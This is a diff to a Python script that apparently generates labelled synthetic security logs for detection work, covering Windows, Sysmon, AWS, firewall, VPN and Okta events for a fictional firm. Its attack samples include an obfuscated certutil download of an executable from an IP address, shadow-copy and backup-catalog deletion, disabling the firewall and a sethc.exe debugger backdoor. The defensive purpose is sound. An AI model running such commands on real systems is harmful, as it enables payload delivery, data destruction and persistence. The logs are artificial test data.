@@ -179,7 +179,6 @@ def windows_security():
         "T1490", "caret-obfuscated shadow copy deletion run through WMI")
     add(s, P(215, f"LT-0388.{DOM}", "m.petrov", s32 + "cmd.exe", 'cmd.exe /V:ON /C "set x=cert&& set y=util&& !x!!y! -url""cache -f h^ttp://37.120.201.9/inv.png %TEMP%\\inv.exe"', "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"),
         "T1105", "certutil hidden in delayed-expansion variables, downloads from Outlook")
-    add(s, P(220, dc, "admin_jdelgado", s32 + "wevtutil.exe", "wevtutil.exe cl \"Windows PowerShell\"", s32 + "cmd.exe"), "T1070.001", "PowerShell log cleared with wevtutil")
     add(s, P(225, f"SRV-SQL07.{DOM}", "admin_jdelgado", s32 + "netsh.exe", "netsh advfirewall set allprofiles state off", s32 + "cmd.exe"), "T1562.004", "host firewall switched off")
     add(s, P(230, f"LT-0388.{DOM}", "m.petrov", s32 + "nltest.exe", "nltest /domain_trusts /all_trusts", s32 + "cmd.exe"), "T1482", "domain trust discovery")
     add(s, P(235, f"SRV-RDGW01.{DOM}", "admin_jdelgado", s32 + "reg.exe", 'REG ADD "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f', s32 + "cmd.exe"),
@@ -386,7 +385,7 @@ def sysmon():
     add(s, x1(50, FS, S32 + "vssadmin.exe", "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB", S32 + "cmd.exe", "cmd.exe /c", "NWIND\\admin_jdelgado"), "T1490", "shadow storage shrunk so copies are purged")
     add(s, e1(52, FS, S32 + "wbadmin.exe", "wbadmin DELETE CATALOG -quiet", S32 + "cmd.exe", "cmd.exe /c", "NWIND\\admin_jdelgado"), "T1490", "backup catalog deleted")
     add(s, e1(54, LT, S32 + "net.exe", "net  view \\\\SRV-FILE03 /all", S32 + "cmd.exe", "cmd.exe", "NWIND\\m.petrov"), "T1135", "share enumeration of the file server")
-    for i, f in enumerate(["D:\\Shares\\Sales\\pricing-2027.xlsx.nwcrypt", "D:\\Shares\\HR\\payroll-nov.csv.nwcrypt"]):
+    for i, f in enumerate(["D:\\Shares\\Sales\\pricing-2027.xlsx.nwcrypt"]):
         add(s, ej(11, 56 + i, FS, {"Image": "C:\\ProgramData\\USOShared\\usoclient64.exe", "TargetFilename": f, "CreationUtcTime": iso(56 + i), "User": "NWIND\\admin_jdelgado"}, "File created (rule: FileCreate)"),
             "T1486", "files rewritten with a ransomware extension")
     add(s, ej(11, 60, FS, {"Image": "C:\\ProgramData\\USOShared\\usoclient64.exe", "TargetFilename": "D:\\Shares\\Sales\\!!!HOW_TO_DECRYPT!!!.hta", "CreationUtcTime": iso(60), "User": "NWIND\\admin_jdelgado"}, "File created (rule: FileCreate)"),
@@ -438,6 +437,10 @@ def sysmon():
         None, "update medic service")
     add(s, sk(1, 276, f"LT-0451.{DOM}", "Process Create (rule: ProcessCreate)", f"Process Create: RuleName: - UtcTime: {t(276).strftime('%Y-%m-%d %H:%M:%S.%f')[:-3]} ProcessId: 6120 Image: C:\\Windows\\System32\\schtasks.exe CommandLine: schtasks.exe /query /fo LIST /v CurrentDirectory: C:\\Windows\\system32\\ User: NWIND\\helpdesk_oreyes IntegrityLevel: High ParentImage: C:\\Windows\\System32\\cmd.exe ParentCommandLine: cmd.exe"),
         None, "help desk listing tasks")
+    add(s, e1(280, f"LT-0412.{DOM}", S32 + "msiexec.exe", "msiexec.exe /i \"C:\\Windows\\ccmcache\\2b\\Zoom_x64.msi\" /qn /norestart", "C:\\Windows\\CCM\\CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe", "NT AUTHORITY\\SYSTEM"),
+        None, "SCCM software update")
+    add(s, ej(13, 282, f"LT-0412.{DOM}", {"EventType": "SetValue", "Image": "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24110.3-0\\MsMpEng.exe", "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated", "Details": "Binary Data", "User": "NT AUTHORITY\\SYSTEM"},
+               "Registry value set (rule: RegistryEvent)"), None, "Defender recording its signature update")
 
 
 def powershell():
@@ -786,8 +789,8 @@ def cloudtrail():
         "T1087.004", "leaked CI key first used from a TOR exit: who am I")
     for i, n in enumerate(["ListUsers"]):
         add(s, e(8 + i, "iam.amazonaws.com", n, leak, X, {"maxItems": 1000} if n != "ListAccessKeys" else {"userName": "ops-admin"}, readOnly=True, awsRegion="us-east-1"), "T1087.004", "IAM enumeration from the same TOR exit")
-    for i, n in enumerate(["DescribeInstances", "DescribeSnapshots"]):
-        add(s, e(12 + i, "ec2.amazonaws.com", n, leak, X, {"maxResults": 1000, "filterSet": {}}, readOnly=True, errorCode="Client.UnauthorizedOperation" if i == 1 else None) .replace(',"errorCode":null', ""),
+    for i, n in enumerate(["DescribeSnapshots"]):
+        add(s, e(12 + i, "ec2.amazonaws.com", n, leak, X, {"maxResults": 1000, "filterSet": {}}, readOnly=True, errorCode="Client.UnauthorizedOperation" if i == 0 else None) .replace(',"errorCode":null', ""),
             "T1580", "infrastructure enumeration with the leaked key")
     add(s, e(20, "iam.amazonaws.com", "CreateUser", leak, X, {"userName": "aws-support-sync"}, {"user": {"path": "/", "userName": "aws-support-sync", "userId": "AIDAEXAMPLEHELDOUT02", "arn": f"arn:aws:iam::{ACCT}:user/aws-support-sync", "createDate": t(20).strftime("%b %d, %Y, %I:%M:%S %p")}}, awsRegion="us-east-1"),
         "T1136.003", "new IAM user created from a TOR exit")
@@ -881,6 +884,7 @@ def cloudtrail():
         None, "ECS task fetching its DB secret at start")
     add(s, e(390, "s3.amazonaws.com", "GetObject", assumed("erp-app-task-role", "ecs-task-77", "ASIAEXAMPLEHELDOUT11"), "10.80.3.14", {"bucketName": "nwind-erp-config", "key": "prod/app.yaml"}, readOnly=True, managementEvent=False, eventCategory="Data"),
         None, "config read")
+    add(s, e(397, "s3.amazonaws.com", "ListBuckets", assumed("AWSServiceRoleForConfig", "AWSConfig-Describe", "ASIAEXAMPLEHELDOUT18"), "config.amazonaws.com", None, readOnly=True, userAgent="config.amazonaws.com"), None, "AWS Config inventory")
 
 
 def kev(sec, verb, username, groups, resource, ns=None, name=None, sub=None, code=200, ip="172.20.4.9", ua="kubectl/v1.32.0 (darwin/arm64) kubernetes/70d3cc9", group=None,
@@ -1036,7 +1040,7 @@ def firewall():
     scanner = "89.248.165.77"
     for i, p in enumerate([22, 23, 80, 445, 1433, 3389, 8080]):
         add(s, pf(10 + i, "block", "in", scanner, "198.18.0.20", R.randint(40000, 65000), p), "T1046", "one internet address probing seven ports in seven seconds (pfSense filterlog)")
-    for i, h in enumerate([11, 12, 13, 14, 15]):
+    for i, h in enumerate([11, 12, 13, 14]):
         add(s, b3164(30 + i, "asa-core-01", ": %ASA-4-106023", f"Deny tcp src inside:172.16.40.23/{R.randint(49152, 65000)} dst servers:172.16.30.{h}/445 by access-group \"inside_in\" [0x5e3c1a2b, 0x0]", pid=False).replace(" : %ASA", " %ASA").replace("106023: ", "106023: "),
             "T1046", "workstation sweeping the server subnet for SMB")
     add(s, fg(50, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", vd="\"root\"", srcip="172.16.12.33", srcport="51122", srcintf="\"lan\"", dstip="51.89.22.104", dstport="445", dstintf="\"wan1\"",
@@ -1061,8 +1065,6 @@ def firewall():
     add(s, fg(335, type="\"utm\"", subtype="\"ips\"", logid="\"0419016384\"", level="\"alert\"", severity="\"critical\"", srcip="194.165.16.78", dstip="198.18.0.31", dstport="443", proto="6", action="\"dropped\"",
               attack="\"Apache.Log4j.Error.Log.Remote.Code.Execution\"", attackid="51006", ref="\"http://www.fortinet.com/ids/VID51006\"", msg="\"applications3: Apache.Log4j.Error.Log.Remote.Code.Execution\""),
         "T1190", "Log4Shell exploit attempt against the web tier (IPS)")
-    add(s, b3164(340, "asa-core-01", ": %ASA-4-733100", "[ Scanning] drop rate-1 exceeded. Current burst rate is 41 per second, max configured rate is 10; Current average rate is 25 per second, max configured rate is 5; Cumulative total count is 15120", pid=False).replace(" : %ASA", " %ASA"),
-        "T1046", "ASA threat detection: scanning rate exceeded")
     add(s, cef(345, "Check Point", "VPN-1 & FireWall-1", "R81.20", "accept", "Accept", "2", "src=172.16.40.23 dst=51.195.7.12 spt=41223 dpt=14444 proto=6 act=accept cs1Label=Rule Name cs1=lan-to-internet"),
         "T1496.001", "connection to a Monero pool port")
     # benign
@@ -1094,6 +1096,11 @@ def firewall():
         None, "Ansible SSH inside the VPC")
     add(s, b3164(490, "gw-branch-3", "kernel", f"[{R.randint(10**5, 10**6)}.{R.randint(10**5, 10**6)}] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:aa:bb:cc:52:54:00:11:22:33:08:00 SRC=71.6.199.23 DST=198.18.0.50 LEN=44 TOS=0x00 PREC=0x00 TTL=239 ID=54321 PROTO=TCP SPT=41523 DPT=7547 WINDOW=1024 RES=0x00 SYN URGP=0", pid=False),
         None, "single Shodan probe, blocked")
+    add(s, fg(495, logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", srcip="172.16.12.61", dstip="13.107.4.50", dstport="443", proto="6", action="\"accept\"", policyid="7", policyname="\"lan-to-internet\"", service="\"HTTPS\"", app="\"Microsoft.Windows.Update\"", sentbyte="22011", rcvdbyte="884422113"),
+        None, "Windows Update download (large inbound, expected)")
+    add(s, pan(497, "TRAFFIC", "end", "172.16.12.40", "140.82.112.4", 55410, 443, "github-base", "allow", "lan-to-internet", bout=1220331, bin_=44123311), None, "developer cloning from GitHub")
+    add(s, b3164(499, "asa-core-01", ": %ASA-6-302013", "Built inbound TCP connection 19922511 for outside:198.18.7.44/51223 (198.18.7.44/51223) to dmz:172.16.60.31/443 (198.18.0.31/443)", pid=False).replace(" : %ASA", " %ASA"),
+        None, "customer HTTPS to the web DMZ")
 
 
 def vpn():
@@ -1128,7 +1135,7 @@ def vpn():
         add(s, fgv(50 + i * 2, logdesc="\"SSL VPN login fail\"", action="\"ssl-login-fail\"", tunneltype="\"ssl-web\"", remip=f"5.188.86.{20 + i % 2}", user=f"\"{u}\"", group="\"N/A\"", dst_host="\"N/A\"",
                     reason="\"sslvpn_login_unknown_user\"" if i % 3 == 0 else "\"sslvpn_login_permission_denied\"", msg="\"SSL user failed to logged in\""),
             "T1110.003", "SSL-VPN spraying many accounts from two neighbouring addresses")
-    for i, u in enumerate(["k.olsen", "t.ibrahim", "s.yamada", "h.weber"]):
+    for i, u in enumerate(["k.olsen", "t.ibrahim", "s.yamada"]):
         add(s, ivanti(80 + i, "89.23.107.44", u, "Users", "Login failed using auth server NWIND-AD (Active Directory).  Reason: Failed"), "T1110.003", "Ivanti Connect Secure spray across users")
     for i, (u, ip, res) in enumerate([("d.fontaine", "146.70.117.10", "failure"), ("e.sato", "146.70.117.10", "failure"), ("m.ortiz", "146.70.117.10", "failure"),
                                        ("l.meyer", "146.70.117.14", "failure"), ("b.ahmadi", "146.70.117.14", "success")]):
@@ -1173,6 +1180,8 @@ def vpn():
     add(s, b3164(362, "duo-proxy-01", "authproxy", "[duoauthproxy.lib.log] Duo authentication returned 'deny': 'Push request denied' for user 'c.dubois' [client 172.16.0.60] (VPN RADIUS, src 90.84.22.17)", pid=False), None, "a single accidental push denial")
     add(s, jv(370, zpa=True, event="session.start", user="e.sato@nwind.example", src_ip="126.12.77.40", country="JP", outcome="success", app="erp.nwind.internal:443", connector="zpa-connector-dc1"), None, "ZPA app session")
     add(s, jv(375, zpa=True, event="session.end", user="e.sato@nwind.example", src_ip="126.12.77.40", country="JP", outcome="success", app="erp.nwind.internal:443", bytes_rx=2231122, bytes_tx=112331), None, "ZPA app session end")
+    add(s, asa(380, "4-722051", "Group <AnyConnect-Staff> User <r.achebe> IP <102.89.40.12> IPv4 Address <10.99.8.77> assigned to session"), None, "normal AnyConnect session")
+    add(s, b3164(385, "ovpn-01", "openvpn", "d.fontaine/86.12.40.9:51234 SIGTERM[soft,remote-exit] received, client-instance exiting"), None, "OpenVPN disconnect")
 
 
 def web():
@@ -1311,9 +1320,6 @@ def okta():
     add(s, ev(260, "user.lifecycle.create", adm, B, "SUCCESS", "Create okta user", **kw, target=[U("okta.sync.svc@nwind.example", "Okta Sync Svc")]), "T1136.003", "new account created from the hijacked session")
     add(s, ev(265, "user.account.privilege.grant", adm, B, "SUCCESS", "Grant user privilege", **kw, target=[U("okta.sync.svc@nwind.example", "Okta Sync Svc")], debug={"privilegeGranted": "Organization administrator, Application administrator"}),
         "T1098.003", "new account made organization administrator")
-    add(s, ev(270, "group.user_membership.add", adm, B, "SUCCESS", "Add user to group membership", **kw,
-              target=[U("okta.sync.svc@nwind.example", "Okta Sync Svc"), {"id": "00g9", "type": "UserGroup", "alternateId": "unknown", "displayName": "Okta Super Admins", "detailEntry": None}]),
-        "T1098.003", "and put in the super-admin group", )
     add(s, ev(275, "system.api_token.create", adm, B, "SUCCESS", "Create API token", **kw, target=[{"id": "00T" + "%017x" % R.getrandbits(68), "type": "Token", "alternateId": "unknown", "displayName": "sync", "detailEntry": None}], bridge=True),
         "T1098.001", "API token created from the hijacked session (EventBridge export)")
     add(s, ev(280, "app.oauth2.as.consent.grant", "m.petrov@nwind.example", "172.56.20.14", "SUCCESS", "User granted consent to app", country="United States", city="Dallas", state="Texas", asorg="T-Mobile USA",
@@ -1358,6 +1364,7 @@ def okta():
     add(s, ev(540, "app.oauth2.as.token.grant.access_token", "svc-reporting", "3.145.22.30", "SUCCESS", "OAuth2 access token is granted", actor_type="PublicClientApp", asorg="Amazon.com"), None, "service client credentials grant")
     add(s, ev(545, "system.org.rate_limit.warning", "system@okta.com", "0.0.0.0", "SUCCESS", "Rate limit warning", actor_type="SystemPrincipal", asorg="Okta", debug={"rateLimitBucketUri": "/api/v1/users", "threshold": "60"}), None, "rate-limit warning from a sync job")
     add(s, ev(550, "user.authentication.verify", "r.nakamura@nwind.example", "198.18.40.30", "SUCCESS", "Verify user identity", asorg="Nwind Corp", bridge=True), None, "first login of the new hire (EventBridge export)")
+    add(s, ev(555, "user.session.start", "e.sato@nwind.example", "126.12.77.40", "SUCCESS", "User login to Okta", country="Japan", city="Tokyo", state="Tokyo", asorg="KDDI Corporation"), None, "the real user logging in from home after resetting")
 
 
 FF_UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:133.0) Gecko/20100101 Firefox/133.0"
